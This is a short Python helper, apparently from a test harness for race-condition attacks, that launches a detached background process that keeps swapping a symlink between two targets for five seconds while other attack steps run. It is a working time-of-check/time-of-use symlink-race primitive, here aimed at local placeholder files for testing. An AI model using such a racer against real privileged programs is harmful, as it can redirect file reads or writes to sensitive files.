# The racer the race attacks share: the attack's own lines set A, B and
# NAME (a plain target, the target it swaps in, the name it swaps), and
# run.py appends this file where a header says 'include: _racer.py'.
# Five seconds of swapping NAME between A and B, in a new session so
# that the attack's later steps run while it goes on.
import os, subprocess, sys, textwrap
racer = textwrap.dedent("""
    import os, time
    end = time.time() + 5
    os.makedirs("real", exist_ok=True)
    open("real/canary.txt", "w").write("plain")
    open("plainfile", "w").write("plain")
    open("real/victim.txt", "w").write("plain")
    while time.time() < end:
        for target in (%r, %r):
            try:
                os.symlink(target, "race.tmp")
            except FileExistsError:
                os.unlink("race.tmp"); os.symlink(target, "race.tmp")
            os.replace("race.tmp", %r)
""") % (A, B, NAME)
subprocess.Popen([sys.executable or "/usr/bin/python3", "-c", racer], start_new_session=True,
                 stdin=subprocess.DEVNULL, stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
print("racer started")
